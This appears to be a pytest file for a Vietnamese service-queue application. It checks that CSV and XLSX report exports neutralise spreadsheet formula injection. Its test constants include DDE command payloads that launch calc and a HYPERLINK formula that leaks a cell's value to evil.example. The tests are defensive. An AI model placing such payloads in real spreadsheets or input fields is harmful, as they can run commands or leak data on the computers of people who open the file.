"""Text that people typed (a citizen's rating reason, a clerk's reason for calling out of turn,
a staff name, a field name) reaches the CSV exports as text a spreadsheet never evaluates:
every cell that begins with = + - @, a tab or a carriage return gets a leading apostrophe
(OWASP), while numbers, negative ones included, stay numbers. The XLSX exports write the same
text as string cells, never formulas.

The data go in the way they do in a real office: the configuration pages, the counter API and
the rating pad's API."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import time_machine
from sqlalchemy import select

from motcua.models import Service, User
from tests.support.demo import login

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
DAY = "2026-03-02"
PAD = "Đánh giá quầy 1"

FIELD_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
CLERK_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
RATING_REASON = "=cmd|' /C calc'!A0"
CALL_REASONS = ("+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "=1+1", "@A1|' /C calc'!A0")
DANGEROUS = (FIELD_NAME, CLERK_NAME, RATING_REASON, *CALL_REASONS)


def at(hms: str) -> datetime:
    h, m, *s = (int(p) for p in hms.split(":"))
    return datetime(2026, 3, 2, h, m, s[0] if s else 0, tzinfo=TZ)


def page_post(client, url: str, data: dict):
    page = client.get(url).get_data(as_text=True)
    token = re.search(r'name="csrf_token"(?: type="hidden")? value="([^"]+)"', page).group(1)
    return client.post(url, data={"csrf_token": token, **data})


def play(app, demo) -> None:
    """The manager names a field and a clerk; the clerk calls four tickets out of turn with a
    reason each; the citizen of the first rates it low with a reason."""
    manager = app.test_client()
    login(manager, demo.manager)
    with app.extensions["motcua"].db.read() as s:
        ht = s.scalar(select(Service).where(Service.code == "HT"))
        clerk = s.scalar(select(User).where(User.username == demo.clerk(1).username))
    r = page_post(manager, f"/manager/config/fields/{ht.id}", {
        "code": "HT", "name": FIELD_NAME, "name_en": "Civil status", "prefix": ht.prefix, "start": str(ht.start_number),
        "digits": str(ht.digits), "daily_quota": "", "service_minutes": "8", "sort_order": "0", "active": "y",
    })
    assert r.status_code == 302, r.get_data(as_text=True)
    r = page_post(manager, f"/manager/config/users/{clerk.id}", {
        "username": clerk.username, "full_name": CLERK_NAME, "role": "clerk", "counter": "1", "password": "", "active": "y",
    })
    assert r.status_code == 302, r.get_data(as_text=True)

    client = app.test_client()
    clerk_h, kiosk_h = demo.clerk(1).headers, demo.kiosk
    with time_machine.travel(at("08:00"), tick=False) as tm:
        assert client.post("/api/v1/counters/1/open", headers=clerk_h).status_code == 200
        issued = []
        for minute in range(1, 9):
            tm.move_to(at(f"08:0{minute}"))
            r = client.post("/api/v1/tickets", json={"service": "HT"}, headers=kiosk_h)
            assert r.status_code == 201, r.get_json()
            issued.append(r.get_json())
        # The last tickets go first, so each call passes over people who waited longer.
        for i, reason in enumerate(CALL_REASONS):
            tm.move_to(at(f"08:1{i}"))
            ticket = issued[-1 - i]
            r = client.post("/api/v1/counters/1/call", json={"code": ticket["code"], "reason": reason}, headers=clerk_h)
            assert r.status_code == 200, r.get_json()
            assert client.post("/api/v1/counters/1/start", headers=clerk_h).status_code == 200
            tm.move_to(at(f"08:1{i}:30"))
            assert client.post("/api/v1/counters/1/finish", headers=clerk_h).status_code == 200
            if i == 0:
                r = client.post("/api/v1/ratings", json={"ticket": ticket["public_id"], "score": 4, "reason": RATING_REASON},
                                headers=demo.device_headers(PAD))
                assert r.status_code == 201, r.get_json()


def read_csv(client, url: str, headers: dict) -> list[list[str]]:
    r = client.get(url, headers=headers)
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))


def assert_inert(rows: list[list[str]]) -> list[str]:
    """No cell begins like a formula, unless it is a plain number; returns every cell."""
    cells = [c for row in rows for c in row]
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(c)  # only a number may begin with a sign
    return cells


def test_csv_exports_neutralise_formulas_and_keep_numbers(app, demo) -> None:
    play(app, demo)
    client, h = app.test_client(), demo.manager.headers

    log = read_csv(client, f"/api/v1/reports/tickets?from={DAY}&to={DAY}&format=csv", h)
    cells = assert_inert(log)
    header = log[0]
    for text in (FIELD_NAME, CLERK_NAME, RATING_REASON, *CALL_REASONS):
        assert "'" + text in cells, repr(text)
    # The rating reason and every call reason sit in their own columns, apostrophe first.
    rows = [dict(zip(header, row, strict=True)) for row in log[1:]]
    reasons = {r["Lý do gọi không theo thứ tự"] for r in rows} - {""}
    assert reasons == {"'" + t for t in CALL_REASONS}
    assert [r["Lý do đánh giá"] for r in rows if r["Lý do đánh giá"]] == ["'" + RATING_REASON]
    assert {r["Cán bộ"] for r in rows if r["Cán bộ"]} == {"'" + CLERK_NAME}

    for group_by in ("clerk", "service", "counter"):
        rows = read_csv(client, f"/api/v1/reports/summary?from={DAY}&to={DAY}&group_by={group_by}&format=csv", h)
        cells = assert_inert(rows)
        if group_by == "clerk":
            assert "'" + CLERK_NAME in cells
        if group_by == "service":
            assert "'" + FIELD_NAME in cells

    # Negative figures are numbers, written as numbers: the tickets were called before the
    # low end of the wait they were told, so the estimate error is below zero.
    summary = client.get(f"/api/v1/reports/summary?from={DAY}&to={DAY}&group_by=service", headers=h).get_json()
    error_s = summary["total"]["eta_mean_error_s"]
    assert error_s < 0
    rows = read_csv(client, f"/api/v1/reports/summary?from={DAY}&to={DAY}&group_by=service&format=csv", h)
    column = rows[0].index("Sai lệch dự kiến TB (phút)")
    assert rows[-1][column] == str(round(error_s / 60, 2))
    assert float(rows[-1][column]) < 0


def test_xlsx_exports_write_the_same_text_as_strings(app, demo) -> None:
    play(app, demo)
    client, h = app.test_client(), demo.manager.headers
    books = [
        client.get(f"/api/v1/reports/tickets?from={DAY}&to={DAY}&format=xlsx", headers=h),
        client.get(f"/api/v1/reports/summary?from={DAY}&to={DAY}&group_by=clerk&format=xlsx", headers=h),
        client.get(f"/manager/reports/export.xlsx?from={DAY}&to={DAY}", headers=h),
    ]
    manager = app.test_client()
    login(manager, demo.manager)
    books[-1] = manager.get(f"/manager/reports/export.xlsx?from={DAY}&to={DAY}")
    found = set()
    for r in books:
        assert r.status_code == 200
        wb = openpyxl.load_workbook(io.BytesIO(r.data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str) and c.value in DANGEROUS:
                        assert c.data_type == "s"
                        found.add(c.value)
    assert found == set(DANGEROUS)


def test_a_leading_tab_or_carriage_return_is_neutralised_too() -> None:
    """The pages and the API strip both from what people type, so no export reaches them with
    one today; the CSV writer does not rely on that."""
    from manager.exports import csv_lines

    text = "".join(csv_lines(["\tA", "B"], [["\t=1+1", "\r=1+1"], [-3, -1.5], ["a-b", "x=1"]]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["'\tA", "B"], ["'\t=1+1", "'\r=1+1"], ["-3", "-1.5"], ["a-b", "x=1"]]
